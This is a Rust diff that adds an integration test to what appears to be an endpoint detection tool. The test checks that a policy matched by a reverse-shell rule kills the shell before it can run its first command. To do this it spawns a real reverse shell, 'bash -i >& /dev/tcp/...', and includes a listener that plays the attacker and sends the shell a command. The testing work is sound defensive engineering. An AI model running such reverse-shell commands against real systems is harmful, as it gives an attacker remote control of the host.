@@ -223,3 +223,100 @@ fn netns_edge_dry_runs_record_the_rate_limit_falls_back_and_disabling_withdraws(
     assert!(third.try_wait().unwrap().is_none());
     reap(third);
 }
+
+/// A listener in the peer namespace that, as an attacker would, waits for the shell that
+/// connects to speak (its prompt), then asks it to create `file` (the shell's first child,
+/// should it live long enough to run it), and keeps the connection open.
+fn attacker(
+    peer: &str,
+    port: u16,
+    file: &std::path::Path,
+) -> std::thread::JoinHandle<Option<std::net::TcpStream>> {
+    let listener =
+        cordon_tests::netns::in_netns(peer, move || std::net::TcpListener::bind(("0.0.0.0", port)))
+            .unwrap();
+    let command = format!("touch {}\n", file.display());
+    std::thread::spawn(move || {
+        use std::io::{Read, Write};
+        listener.set_nonblocking(false).unwrap();
+        let (mut s, _) = listener.accept().ok()?;
+        s.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
+        let mut prompt = [0u8; 256];
+        if s.read(&mut prompt).is_ok_and(|n| n > 0) {
+            let _ = s.write_all(command.as_bytes());
+        }
+        Some(s)
+    })
+}
+
+#[test]
+fn netns_a_reverse_shell_matched_by_an_edge_policy_is_killed_before_its_first_command() {
+    if !require_root("netns_a_reverse_shell_matched_by_an_edge_policy_is_killed") {
+        return;
+    }
+    let d = Deployment::namespaces_with_peer(&detection_config(""));
+    let agent = online(&d, "");
+    let rule = cordon_tests::repo::rule_id("reverse_shell_stdio_socket");
+    // Only shells talking to this test's port: other tests run reverse shells too.
+    let port = 4791;
+    let name = format!("edge-rsh-{}", std::process::id());
+    let yaml = format!(
+        "name: {name}\ntrigger:\n  rules: [{rule}]\n  conditions:\n    event.StdinPeer|endswith: ':{port}'\nsteps:\n  - name: kill\n    action: kill_process\n    at: edge\n"
+    );
+    apply(&d, &name, &yaml);
+    wait_policy(&d, &agent, &format!("playbook:{name}"), true);
+
+    let dir = tempfile::tempdir().unwrap();
+    let proof = dir.path().join("first-command-ran");
+    let peer = d.peer_ns.as_ref().unwrap().name.clone();
+    let connected = attacker(&peer, port, &proof);
+    let host = d.agent_ns.as_ref().unwrap();
+    let script = format!(
+        "bash -i >& /dev/tcp/{}/{port} 0>&1",
+        cordon_tests::deploy::PEER_V4
+    );
+    let mut shell = host
+        .command("bash")
+        .args(["-c", &script])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let status = wait_exit(&mut shell).expect("the reverse shell was not killed");
+    let _held = connected
+        .join()
+        .unwrap()
+        .expect("the shell never connected");
+    // bash -c may exec the shell itself (killed: signal 9) or wait for it (137).
+    assert!(
+        status.signal() == Some(9) || status.code() == Some(137),
+        "{status:?}"
+    );
+    let actions = poll(Duration::from_secs(40), || {
+        let out = d.ctl(&[
+            "events", "query", "--agent", &agent.id, "--kind", "process", "--limit", "2000",
+            "--json",
+        ]);
+        out.lines()
+            .filter(|l| l.contains(&format!(":{port}")) && l.contains("\"edge\""))
+            .find_map(|l| serde_json::from_str::<Value>(l).ok())
+    })
+    .expect("the shell's exec was not stored with its edge action");
+    let a = &actions["edge"][0];
+    assert_eq!(
+        (a["action"].as_str(), a["outcome"].as_str()),
+        (Some("kill_process"), Some("done")),
+        "{actions}"
+    );
+    let started = actions["process"]["start_time_ms"].as_i64().unwrap();
+    println!(
+        "exec to killed: {} ms (wall clock, ms resolution); first command ran: {}",
+        a["at_ms"].as_i64().unwrap() - started,
+        proof.exists()
+    );
+    assert!(
+        !proof.exists(),
+        "the shell ran its first command before it was killed"
+    );
+}
